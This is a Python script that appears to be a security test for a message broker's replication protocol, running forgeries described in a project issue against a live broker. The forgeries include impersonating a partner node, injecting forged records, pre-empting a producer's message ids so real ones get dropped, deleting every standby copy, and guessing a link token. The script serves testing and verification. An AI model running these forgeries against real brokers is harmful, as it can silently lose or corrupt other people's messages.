"""Forgeries against a broker's replication port, as issue 14 describes them.

Each ``forge_*`` coroutine plays a fake partner that does not hold the pair
secret and returns what the broker answered (a gRPC status code, or "closed"
for the TCP link). ``ALL`` lists them; ``python pair_forgery.py HOST:PORT PAIR
TCP_PORT`` runs every one against a live broker and prints the answers.

The forgeries: a hello with a made-up node id (which, on an unauthenticated
pair, makes the broker take over its live partner's messages), forged records
(delivered to every group), forged records carrying a producer's *next* ids
(de-duplication would drop the real ones), one record at seq 2^62-10 (later
publishes lost after a takeover), a batch whose progress removes every standby
copy, each also with a made-up proof, a batch instead of a hello, and a TCP
link connection with a guessed token and proof.
"""

from __future__ import annotations

import asyncio
import os
import sys
import time
from collections.abc import Awaitable, Callable

import grpc

from pairq.broker import wire
from pairq.v1 import replication_pb2 as rpb
from pairq.v1 import replication_pb2_grpc as rpbg

TOPIC = "forged"
HUGE_SEQ = 2**62 - 10


def record(msg_id: bytes, body: bytes = b"forged") -> bytes:
    return wire.encode_record(msg_id, body, time.time_ns())


async def _session(
    address: str, hello: rpb.ReplicaHello | None, batch: rpb.ReplicaBatch, *, prove: bool
) -> str:
    """Open a Replicate stream, say ``hello`` (answering a challenge with a made-up
    proof if ``prove``), send ``batch``; the status the broker ended it with.

    The broker's answer to the hello (and to the proof) is read before anything more
    is sent, as a real partner does: a refusal is then read as the status it is,
    instead of racing the next write against the broker's abort. Only a broker that
    answered with something else (a welcome: it took the forgery for its partner)
    gets the batch, and its answer to that is returned ("ACKED" if it stored it)."""
    async with grpc.aio.insecure_channel(address) as ch:
        call = rpbg.ReplicationServiceStub(ch).Replicate()

        async def ended() -> str:
            """The status the broker ended the call with."""
            return (await asyncio.wait_for(call.code(), 10)).name

        try:
            if hello is not None:
                await call.write(rpb.ReplicateRequest(hello=hello))
                resp = await asyncio.wait_for(call.read(), 10)
                if resp is grpc.aio.EOF:
                    return await ended()
                if resp.WhichOneof("kind") == "challenge" and prove:
                    await call.write(
                        rpb.ReplicateRequest(proof=rpb.ReplicaProof(proof=os.urandom(32)))
                    )
                    resp = await asyncio.wait_for(call.read(), 10)
                    if resp is grpc.aio.EOF:
                        return await ended()
            await call.write(rpb.ReplicateRequest(batch=batch))
            while True:
                r = await asyncio.wait_for(call.read(), 10)
                if r is grpc.aio.EOF:
                    return await ended()
                if r.WhichOneof("kind") == "ack":
                    return "ACKED"  # the forgery was accepted
        except grpc.aio.AioRpcError as exc:
            return exc.code().name
        except (asyncio.InvalidStateError, ConnectionError) as exc:
            # A write after the broker ended the call; what it ended it with.
            status = await ended()
            return status if status != "OK" else f"ended ({exc})"


def _hello(node_id: str, pair: str, *, nonce: bool) -> rpb.ReplicaHello:
    return rpb.ReplicaHello(
        node_id=node_id, pair=pair, tcp=False, nonce=os.urandom(32) if nonce else b""
    )


def _append(ids: list[bytes], first_seq: int = 0) -> rpb.ReplicaBatch:
    return rpb.ReplicaBatch(
        batch_id=1,
        appends=[
            rpb.ReplicaAppend(topic=TOPIC, first_seq=first_seq, records=[record(i) for i in ids])
        ],
    )


Forgery = Callable[[str, str, str, list[bytes]], Awaitable[str]]


async def forge_fake_hello(address: str, pair: str, partner_id: str, ids: list[bytes]) -> str:
    """A hello with a made-up node id and no proof (a takeover on an open pair)."""
    return await _session(
        address,
        _hello("made-up-node", pair, nonce=False),
        rpb.ReplicaBatch(batch_id=1),
        prove=False,
    )


async def forge_fake_hello_made_up_proof(
    address: str, pair: str, partner_id: str, ids: list[bytes]
) -> str:
    return await _session(
        address, _hello("made-up-node", pair, nonce=True), rpb.ReplicaBatch(batch_id=1), prove=True
    )


async def forge_records(address: str, pair: str, partner_id: str, ids: list[bytes]) -> str:
    """Forged records under the real partner's id."""
    return await _session(
        address,
        _hello(partner_id, pair, nonce=True),
        _append([os.urandom(16) for _ in range(5)]),
        prove=True,
    )


async def forge_next_ids(address: str, pair: str, partner_id: str, ids: list[bytes]) -> str:
    """Records that carry the producer's next ids (de-duplication would drop the real ones)."""
    return await _session(address, _hello(partner_id, pair, nonce=False), _append(ids), prove=False)


async def forge_next_ids_made_up_proof(
    address: str, pair: str, partner_id: str, ids: list[bytes]
) -> str:
    return await _session(address, _hello(partner_id, pair, nonce=True), _append(ids), prove=True)


async def forge_huge_seq(address: str, pair: str, partner_id: str, ids: list[bytes]) -> str:
    """One record at seq 2^62-10 (every later publish lost after a takeover)."""
    return await _session(
        address,
        _hello(partner_id, pair, nonce=True),
        _append([os.urandom(16)], HUGE_SEQ),
        prove=True,
    )


async def forge_remove_standby(address: str, pair: str, partner_id: str, ids: list[bytes]) -> str:
    """A batch whose progress finishes (removes) every standby copy."""
    batch = rpb.ReplicaBatch(
        batch_id=1,
        progress=[rpb.ReplicaProgress(topic=TOPIC, channel="work", floor=HUGE_SEQ)],
        deleted_topics=[TOPIC],
    )
    return await _session(address, _hello(partner_id, pair, nonce=True), batch, prove=True)


async def forge_batch_without_hello(
    address: str, pair: str, partner_id: str, ids: list[bytes]
) -> str:
    return await _session(address, None, _append(ids), prove=False)


async def forge_tcp_link(host: str, port: int) -> str:
    """A TCP link connection with a guessed token and a made-up proof."""
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write((16).to_bytes(4, "big") + os.urandom(16))
        writer.write((32).to_bytes(4, "big") + os.urandom(32))
        writer.write((64).to_bytes(4, "big") + os.urandom(64))
        await writer.drain()
        while True:
            data = await asyncio.wait_for(reader.read(4096), 10)
            if not data:
                return "closed"
    except ConnectionError:
        return "closed"
    finally:
        writer.close()


ALL: list[Forgery] = [
    forge_fake_hello,
    forge_fake_hello_made_up_proof,
    forge_records,
    forge_next_ids,
    forge_next_ids_made_up_proof,
    forge_huge_seq,
    forge_remove_standby,
    forge_batch_without_hello,
]


async def _main(address: str, pair: str, tcp_port: int) -> None:
    ids = [os.urandom(16) for _ in range(10)]
    for f in ALL:
        print(f"{f.__name__}: {await f(address, pair, 'partner', ids)}")
    if tcp_port:
        print(f"forge_tcp_link: {await forge_tcp_link(address.rsplit(':', 1)[0], tcp_port)}")


if __name__ == "__main__":
    asyncio.run(_main(sys.argv[1], sys.argv[2], int(sys.argv[3]) if len(sys.argv) > 3 else 0))
